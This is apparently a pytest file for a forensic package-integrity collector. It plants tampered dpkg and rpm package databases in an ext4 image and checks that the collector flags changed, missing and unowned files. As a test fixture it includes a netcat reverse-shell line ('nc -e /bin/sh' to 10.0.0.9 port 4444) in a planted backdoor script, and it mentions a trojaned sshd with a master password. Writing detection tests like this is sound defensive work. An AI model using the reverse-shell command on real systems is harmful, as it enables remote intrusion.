"""package_integrity reads an ext4 image made with mkfs.ext4 -d from a planted root (a dpkg database with a
trojaned binary, a changed conffile and a missing file, an rpm sqlite database, a merged-/usr link and an
executable no package owns) and gives the same records as from the planted root itself."""
from __future__ import annotations

import hashlib
import os
import sqlite3

import pytest
from linux.test_package_integrity import EVIL, GOOD, dpkg_root, md5, rpm_header

from collectors.artifacts.package_integrity import PackageIntegrity
from collectors.case import Case
from collectors.sources.images import open_image

from .conftest import ext4_disk
from .test_linux_collectors_on_image import _collect


def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


def _plant(root):
    dpkg_root(root)
    (root / "usr/sbin").mkdir(parents=True)
    (root / "sbin").symlink_to("usr/sbin")  # merged /usr: /sbin/x and /usr/sbin/x are one file
    (root / "usr/sbin/sshd").write_bytes(b"patched sshd with a master password")
    os.chmod(root / "usr/sbin/sshd", 0o755)
    (root / "etc/sshd_config").write_text("changed\n")
    (root / "var/lib/rpm").mkdir(parents=True)
    blob = rpm_header({1000: (6, "openssh-server"), 1116: (4, [0, 1]), 1117: (8, ["sshd", "sshd_config"]),
                       1118: (8, ["/sbin/", "/etc/"]), 1035: (8, [sha(b"real sshd"), sha(b"orig\n")]),
                       1037: (4, [0, 1]), 5011: (4, [8])})
    con = sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")
    con.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    con.execute("INSERT INTO Packages (blob) VALUES (?)", (blob,))
    con.commit()
    con.close()


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    d = tmp_path_factory.mktemp("planted-packages")
    root = d / "root"
    root.mkdir()
    _plant(root)
    return root, ext4_disk(d, root, size_mb=16)


def test_same_package_records_from_the_image_as_from_the_folder(tmp_path, planted):
    root, disk = planted
    coll = PackageIntegrity()
    with Case.create(tmp_path / "folder", examiner="t") as case:
        from_folder = _collect(coll, case, root)
    with open_image(disk) as img, Case.create(tmp_path / "image", examiner="t") as case:
        from_image = _collect(coll, case, img.root())
        left = sorted(os.listdir(case.tmp_dir)) if case.tmp_dir.is_dir() else []
    assert left == []  # the working copy of the rpm database is removed
    assert from_image == from_folder
    files = {r["path"]: r for r in from_image["package_files.json"]}
    assert (files["/usr/bin/ls"]["status"], files["/usr/bin/ls"]["expected"], files["/usr/bin/ls"]["actual"]) == \
        ("changed", md5(GOOD), md5(EVIL))
    assert files["/usr/bin/ls"]["sha256"] == sha(EVIL)
    assert files["/etc/ssh/sshd_config"]["status"] == "changed" and files["/etc/ssh/sshd_config"]["config"] is True
    assert files["/usr/bin/gone"]["status"] == "missing"
    sshd = files["/sbin/sshd"]  # read through the /sbin -> usr/sbin link inside the image
    assert (sshd["status"], sshd["manager"], sshd["algorithm"], sshd["actual"]) == \
        ("changed", "rpm", "sha256", sha(b"patched sshd with a master password"))
    assert files["/etc/sshd_config"]["config"] is True
    managers = {s["manager"]: s for s in from_image["package_integrity_summary.json"]}
    assert set(managers) == {"dpkg", "rpm"}
    assert (managers["dpkg"]["files_checked"], managers["dpkg"]["changed"], managers["dpkg"]["missing"]) == (4, 1, 1)
    unowned = {u["path"]: u for u in from_image["unowned_executables.json"]}
    assert set(unowned) == {"/usr/bin/backdoor"}
    assert unowned["/usr/bin/backdoor"]["sha256"] == sha(b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n")
    assert unowned["/usr/bin/backdoor"]["mode"] == "-rwxr-xr-x"
